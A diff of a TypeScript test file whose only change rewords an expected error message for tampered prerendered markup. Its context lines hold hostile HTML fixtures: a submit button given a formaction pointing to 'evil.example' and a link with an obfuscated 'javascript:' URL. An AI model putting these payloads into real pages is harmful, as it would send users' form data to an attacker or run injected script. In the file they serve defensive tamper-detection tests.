@@ -23,7 +23,10 @@ const FOREIGN: Readonly<Record<string, readonly [html: string, said: RegExp | un
   ],
   'with a button that sends elsewhere': [HTML.replace('type="submit"', '$& formaction="//evil.example"'), undefined],
   'with a link that runs a script': [HTML.replace(/ href="[^"]*"/, ' href=" java\nscript:alert(1)"'), undefined],
-  'that a filter has changed': [HTML.replace(/<div class="trap".*?<\/div>/, ''), /the prerendered markup was changed/],
+  'that a filter has changed': [
+    HTML.replace(/<div class="trap".*?<\/div>/, ''),
+    /what it showed before the script ran was changed/,
+  ],
 };
 
 test('markup that is not of the script and the tag is replaced by what the script renders', async ({ host, page }) => {
